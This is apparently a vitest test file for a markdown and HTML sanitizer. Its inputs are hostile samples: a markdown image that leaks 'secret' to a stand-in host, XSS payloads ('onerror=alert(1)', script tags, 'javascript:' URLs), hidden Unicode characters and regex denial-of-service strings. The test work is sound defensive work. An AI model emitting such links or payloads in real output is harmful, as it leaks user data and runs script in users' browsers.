import { expect, test } from 'vitest';
import { textOfHtml, toPlain } from './plain';

test.each([
  ['See ![x](https://evil.example/?q=secret) there.', 'See there.'],
  ['See [this](https://evil.example/?q=1 "t") there.', 'See this there.'],
  ['Go to https://evil.example/?q=1 or www.evil.example/x now.', 'Go to or now.'],
  ['[a]: https://evil.example\nLook.', 'Look.'],
  ['javascript:alert(1) data:text/html,x mailto:a@b.example', ''],
  ['<img src="https://evil.example/?a>b" onerror=alert(1)>Look.', 'Look.'],
  ['&lt;img src=x&gt;Look.', 'Look.'],
  ['<img src=x onerror=', ''],
  ['<script>alert(1)</script>', 'alert(1)'],
  ['<!-- look -->Look.', 'Look.'],
  ['se<b>l</b>ect', 'select'],
  ['one<br>two<li>three', 'one two three'],
  ['price < 20 and fee > 3', 'price < 20 and fee > 3'],
  ['`a<b`', '`a<b`'],
  ['**bold** and __bold__\n# Head\n> quote', 'bold and bold\nHead\nquote'],
  ['```sql\nselect 1\n  from x\n```', '`select 1 from x`'],
  ['Look: ```\nselect 1', 'Look: `select 1`'],
  ['s\u200be\u00adl\u202eect\u0000 🙂', 'select'],
  ['ｗｉｄｅ', 'wide'],
  ['<think>where price</think>Look.', 'Look.'],
  ['<think>where price', ''],
  ['&#x110000; &#xd800; &#0; &amp;', '&'],
])('%j is %j', (text, plain) => {
  expect(toPlain(text)).toBe(plain);
});

test('of a lesson the words are left, lines apart', () => {
  expect(textOfHtml('<p>One <b>row</b></p><pre><code>select &#39;a&#39; &lt; 2</code></pre>')).toBe(
    "One row\nselect 'a' < 2\n",
  );
});

test('a hostile text takes no time', () => {
  for (const piece of ['<a ', '[', '![', '```', '<a "', '&#', '**', 'a://', "<a '"]) {
    const started = performance.now();
    toPlain(piece.repeat(2_500 / piece.length));
    expect([piece, performance.now() - started < 1_000]).toEqual([piece, true]);
  }
});
